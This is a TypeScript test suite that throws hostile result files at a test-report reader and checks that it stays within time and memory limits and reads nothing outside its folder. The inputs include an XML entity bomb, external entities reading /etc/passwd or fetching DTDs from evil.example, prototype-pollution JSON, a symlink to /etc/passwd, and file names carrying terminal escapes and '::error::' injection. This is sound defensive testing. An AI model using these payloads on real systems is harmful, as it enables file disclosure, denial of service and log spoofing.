import { closeSync, mkdirSync, openSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { judgeTerminal } from '../payloads/judge-terminal.ts';
import { type Case, crashOf, withBook } from './case.ts';

/** What a reader of results may take for a file, however large: it streams. */
const MOST_CPU_MS = 60_000;
const MOST_GROWTH_MB = 600;

const junit = (inner: string) => `<testsuite name="s">${inner}</testsuite>`;
const CASE = '<testcase classname="c" name="t"><failure message="m">x</failure></testcase>';

/** File name, and what stands in it; a pair of a text and a count stands so often. */
const FILES: readonly (readonly [tries: string, file: string, content: string | Buffer])[] = [
  [
    'a bomb of entities',
    'a.xml',
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>${junit('<testcase name="&j;"/>')}`,
  ],
  [
    'an outer entity',
    'a.xml',
    `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${junit('<testcase name="&a;"/>')}`,
  ],
  [
    'an outer parameter entity',
    'a.xml',
    `<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>${junit(CASE)}`,
  ],
  ['an outer document type', 'a.xml', `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${junit(CASE)}`],
  ['XML within XML', 'a.xml', '<testsuite>'.repeat(200_000)],
  ['an attribute of five megabytes', 'a.xml', junit(`<testcase name="${'a'.repeat(5_000_000)}"/>`)],
  ['a comment without an end', 'a.xml', `<testsuite><!--${'-'.repeat(1_000_000)}`],
  [
    'a million attributes',
    'a.xml',
    `<testsuite ${Array.from({ length: 200_000 }, (_, i) => `a${i}="x"`).join(' ')}/>`,
  ],
  ['JSON within JSON', 'a.json', '['.repeat(1_000_000)],
  ['maps within maps', 'a.json', '{"a":'.repeat(300_000)],
  [
    'CTRF with prototypes',
    'a.json',
    '{"__proto__":{"x":1},"reportFormat":"CTRF","results":{"__proto__":null,"tests":[{"name":"__proto__","status":"constructor"},null,1,[]]}}',
  ],
  [
    'numbers without an end',
    'a.json',
    `{"reportFormat":"CTRF","results":{"tests":[{"name":"t","status":"failed","duration":${'9'.repeat(100_000)}}]}}`,
  ],
  ['an escape that breaks off', 'a.json', '{"reportFormat":"CTRF","results":{"tests":[{"name":"\\ud800\\u00'],
  [
    'a line of ten megabytes',
    'a.jsonl',
    `{"Action":"output","Package":"p","Output":"${'a'.repeat(10_000_000)}"}`,
  ],
  ['a hundred thousand empty lines', 'a.jsonl', '\n'.repeat(100_000)],
  ['an archive', 'a.xml', Buffer.from('504b0304140000000800', 'hex')],
  ['a compressed file', 'a.json', Buffer.from('1f8b0800000000000003', 'hex')],
  ['a program', 'a.xml', Buffer.from('7f454c4602010100', 'hex')],
  ['UTF-16', 'a.xml', Buffer.from(`\ufeff${junit(CASE)}`, 'utf16le')],
  ['UTF-32', 'a.xml', Buffer.from([...junit(CASE)].flatMap((c) => [c.charCodeAt(0), 0, 0, 0]))],
  [
    'Latin-1 that claims to be UTF-8',
    'a.xml',
    Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${junit('<testcase name="\xe9\xff"/>')}`, 'latin1'),
  ],
  ['an encoding that nobody knows', 'a.xml', `<?xml version="1.0" encoding="x-evil"?>${junit(CASE)}`],
  ['UTF-7', 'a.xml', `<?xml version="1.0" encoding="UTF-7"?>+ADw-testsuite+AD4-`],
  ['nothing but zeros', 'a.xml', Buffer.alloc(1_000_000)],
  ['nothing', 'a.xml', ''],
  ['a file cut within a letter', 'a.xml', Buffer.from(junit('<testcase name="\u{1f600}"/>')).subarray(0, 45)],
  ['control characters', 'a.xml', junit(`<testcase name="\u0000\u001b[31m\u0008"/>`)],
  ['a tag of every name', 'a.xml', junit(Array.from({ length: 50_000 }, (_, i) => `<x${i}/>`).join(''))],
];

/** Result files that no test runner writes. */
export const RESULT_CASES: readonly Case[] = [
  {
    tries: 'a folder with links, circles and names that mean something elsewhere',
    right: 'each report in it is read, and nothing outside of it',
    wrong: () =>
      withBook({}, async ({ folder, run }) => {
        const names = [
          'a.xml',
          '-b.xml',
          'c\\d.xml',
          'e\n::error::f.xml',
          'g\u001b[31m.xml',
          '*.xml',
          '{h}.xml',
        ];
        mkdirSync(join(folder, 'results/deep'), { recursive: true });
        for (const name of names) writeFileSync(join(folder, 'results/deep', name), junit(CASE));
        symlinkSync('..', join(folder, 'results/deep/circle'));
        symlinkSync('/etc/passwd', join(folder, 'results/deep/outside.xml'));
        const { code, stdout, stderr } = await run('results', 'results');
        const [what] = judgeTerminal(stdout + stderr);
        if (what) return what;
        const read = stdout.split('\n').filter((line) => line.includes('junit, 1 test'));
        return (code !== 0 || read.length !== names.length) && `${code} ${stdout}${stderr}`;
      }),
  },
  ...FILES.map(([tries, file, content]) => resultCase(tries, file, (path) => writeFileSync(path, content))),
  {
    ...resultCase('JUnit of 500 megabytes', 'a.xml', (path) =>
      writeMany(path, '<testsuite name="s">', CASE, '</testsuite>'),
    ),
    isLong: true,
  },
  {
    ...resultCase('`go test -json` of 500 megabytes', 'a.jsonl', (path) =>
      writeMany(path, '', '{"Action":"output","Package":"p","Test":"T","Output":"a line of a log\\n"}\n', ''),
    ),
    isLong: true,
  },
];

function resultCase(tries: string, file: string, write: (path: string) => void): Case {
  return {
    tries,
    right: 'the reader ends by itself with what it could read or a sentence, in little time and memory',
    wrong: () =>
      withBook({}, async ({ folder, run }) => {
        write(join(folder, file));
        const start = process.cpuUsage();
        const before = process.resourceUsage().maxRSS;
        for (const args of [['results'], ['match']]) {
          const ended = await run(...args, file);
          const [what] = [crashOf(ended), ...judgeTerminal(ended.stdout + ended.stderr)].filter(Boolean);
          if (what) return `${args[0]}: ${what}`;
        }
        const { user, system } = process.cpuUsage(start);
        const cpuMs = (user + system) / 1000;
        const grownMb = (process.resourceUsage().maxRSS - before) / 1024;
        if (cpuMs > MOST_CPU_MS) return `${Math.round(cpuMs / 1000)} CPU seconds`;
        return grownMb > MOST_GROWTH_MB && `memory grew by ${Math.round(grownMb)} MiB`;
      }),
  };
}

function writeMany(path: string, head: string, unit: string, tail: string): void {
  const file = openSync(path, 'w');
  const block = unit.repeat(Math.ceil(2 ** 20 / unit.length));
  writeSync(file, head);
  for (let size = 0; size < 500 * 2 ** 20; size += block.length) writeSync(file, block);
  writeSync(file, tail);
  closeSync(file);
}
